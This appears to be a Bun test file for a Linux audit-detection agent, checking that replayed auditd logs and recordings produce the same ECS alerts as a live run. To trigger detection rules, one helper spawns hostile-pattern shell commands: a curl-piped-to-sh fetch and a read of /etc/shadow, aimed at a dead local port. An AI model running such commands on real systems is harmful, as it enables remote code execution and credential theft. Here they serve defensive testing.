// What was seen live, again: from the log that an audit daemon wrote meanwhile, and from a recording. And every line is ECS.

import { afterEach, beforeAll, describe, expect, test } from 'bun:test';
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join, resolve } from 'node:path';
import {
  AgentRun,
  agent,
  at,
  auditctl,
  folder,
  guardKernel,
  helper,
  type Line,
  puppy,
  RULES,
  SHARED,
  scenario,
  text,
} from './agent.ts';
import { Auditd, stopAuditd } from './auditd.ts';

const PACK = resolve(import.meta.dir, '../../rules.d');
const kernel = guardKernel();
afterEach(stopAuditd);

/** The end of the last execution's arguments, as its record has them. */
const LAST = 'a4="" a5=C3BC';

/** Things that rules look at: executions of several kinds, of several users, connections, long arguments, a script. */
async function happenings(): Promise<void> {
  const server = createServer(socket => socket.end());
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as { port: number };
  for (let i = 0; i < 20; i++) await scenario('leaf', i);
  await scenario('brief', helper(), 50, port);
  await scenario('connect', 'v4', port);
  await scenario('connect', 'progress', port);
  await scenario('args', helper(), 3_000, 40);
  spawnSync('/bin/sh', [
    '-c',
    "/bin/sh -c 'curl -s http://127.0.0.1:9/x | sh'; id; whoami; cat /etc/shadow >/dev/null; base64 -d </dev/null",
  ]);
  spawnSync('setpriv', ['--reuid=65534', '--clear-groups', '/bin/sh', '-c', 'whoami; id']);
  spawnSync('/bin/sh', ['-c', 'nohup "$0" leaf a "b c" "" "ü" 2>/dev/null', helper()]);
  server.close();
  await Bun.sleep(300);
}

const lines = (out: string): Line[] =>
  out
    .split('\n')
    .filter(line => line !== '')
    .map(line => JSON.parse(line) as Line);
const alerts = (all: readonly Line[]): Line[] => all.filter(line => at(line, 'event.kind') === 'alert');

function withoutCreated(line: Line): unknown {
  const { event, ...rest } = line as { event: Record<string, unknown> };
  const { created: _, ...others } = event;
  return { ...rest, event: others };
}

describe('the log that auditd wrote meanwhile', () => {
  for (const format of ['ENRICHED', 'RAW']) {
    test(`${format}: the same alerts, with the same ids`, async () => {
      const daemon = new Auditd({ log_format: format, flush: 'NONE' });
      expect(await daemon.start()).toBe(true);
      const run = await agent({ args: ['--min-level', 'informational', '--rules', PACK] });
      await happenings();
      // The daemon is behind on a busy machine, and drops what it hasn't written when it ends.
      await run.until('the end in the log', () => daemon.lines().some(line => line.includes(LAST)));
      await Bun.sleep(200);
      expect(await run.stop()).toBe(0);
      await daemon.stop();
      auditctl('-e', String(kernel.before().status.enabled), '-b', String(kernel.before().status.backlog_limit));
      expect(run.of('loss')).toEqual([]);
      const again = puppy(['replay', '--min-level', 'informational', '--rules', RULES, '--rules', PACK, daemon.log]);
      expect(again.code).toBe(0);
      const live = alerts(run.lines());
      const replayed = alerts(lines(again.out));
      const key = (line: Line): string =>
        `${text(line, 'event.id')} ${text(line, 'rule.name')} ${text(line, 'process.command_line')?.slice(0, 80)}`;
      expect(live.length).toBeGreaterThan(70);
      expect(replayed.map(key).sort()).toEqual(live.map(key).sort());
    }, 40_000);
  }
});

describe('a recording', () => {
  let run: AgentRun;
  let recording = '';

  beforeAll(async () => {
    recording = join(folder(), 'recording');
    run = await agent({
      args: ['--events', '--records', '--record', recording, '--min-level', 'informational', '--rules', PACK],
    });
    await happenings();
    run.signal('SIGUSR1');
    await Bun.sleep(1_200);
    expect(await run.stop()).toBe(0);
  }, 40_000);

  test('gives exactly the same lines, event.created aside', () => {
    const again = puppy([
      'replay',
      '--events',
      '--min-level',
      'informational',
      '--rules',
      RULES,
      '--rules',
      PACK,
      recording,
    ]);
    expect(again.code).toBe(0);
    const live = run.lines();
    const replayed = lines(again.out);
    expect(live.length).toBeGreaterThan(300);
    expect(replayed.length).toBe(live.length);
    for (let i = 0; i < live.length; i++) expect(withoutCreated(replayed[i]!)).toEqual(withoutCreated(live[i]!));
  }, 20_000);

  test('is not written over', async () => {
    const second = new AgentRun({ args: ['--record', recording] });
    expect(await second.ended()).toBe(1);
    expect(second.log()).toContain('EEXIST');
  }, 20_000);

  const check = resolve(SHARED, '../tools/ecs_check.py');
  test.skipIf(!existsSync(check))(
    'every line passes the ECS check (needs the shared data)',
    () => {
      const flat = join(SHARED, 'ecs/ecs_flat.yml');
      const { status, stdout } = spawnSync('python3', [check, flat, run.out], { encoding: 'utf8' });
      expect(stdout).toEndWith(' 0 kinds of fault\n');
      expect(status).toBe(0);
    },
    60_000,
  );

  test('no line is over 30,000 bytes', () => {
    const longest = Math.max(
      ...readFileSync(run.out, 'utf8')
        .split('\n')
        .map(line => Buffer.byteLength(line)),
    );
    expect(longest).toBeLessThanOrEqual(30_000);
    expect(longest).toBeGreaterThan(20_000);
  });
});
